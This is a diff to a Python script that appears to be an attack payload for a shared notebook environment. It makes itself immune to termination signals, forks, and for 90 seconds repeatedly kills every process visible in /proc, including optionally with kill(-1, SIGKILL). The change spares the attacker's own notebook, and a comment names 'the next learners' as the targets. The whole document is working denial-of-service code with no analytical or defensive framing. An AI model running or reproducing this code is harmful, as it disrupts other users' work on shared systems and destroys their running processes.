@@ -16,7 +16,7 @@ for _rt_sig in (_rt_signal.SIGTERM, _rt_signal.SIGHUP, _rt_signal.SIGINT, _rt_si
     _rt_signal.signal(_rt_sig, _rt_signal.SIG_IGN)
 
 
-def _rt_storm(skip, log):
+def _rt_storm(skip, log, everyone=True):
     for p in _rt_os.listdir("/proc"):
         if not p.isdigit() or int(p) in skip:
             continue
@@ -24,12 +24,12 @@ def _rt_storm(skip, log):
             try:
                 _rt_os.kill(int(p), sig)
                 log.append(f"{sig.name}->{p}")
-            except OSError as exc:
+            except OSError:
                 pass
-    for sig in (_rt_signal.SIGKILL,):
+    if everyone:
         try:
-            _rt_os.kill(-1, sig)
-            log.append(f"kill(-1,{sig.name})")
+            _rt_os.kill(-1, _rt_signal.SIGKILL)  # every process this uid may signal but the caller
+            log.append("kill(-1,SIGKILL)")
         except OSError:
             pass
 
@@ -58,9 +58,9 @@ if _rt_pid == 0:
             except OSError:
                 pass
         _rt_end = _rt_time.time() + 90
-        while _rt_time.time() < _rt_end:
-            _rt_storm({_rt_os.getpid()}, [])
-            _rt_time.sleep(0.02)
+        while _rt_time.time() < _rt_end:  # everyone but the attacker's own notebook: the next learners
+            _rt_storm({_rt_os.getpid(), _RT_ME}, [], everyone=False)
+            _rt_time.sleep(0.05)
     finally:
         _rt_os._exit(0)
 _rt_os.waitpid(_rt_pid, 0)
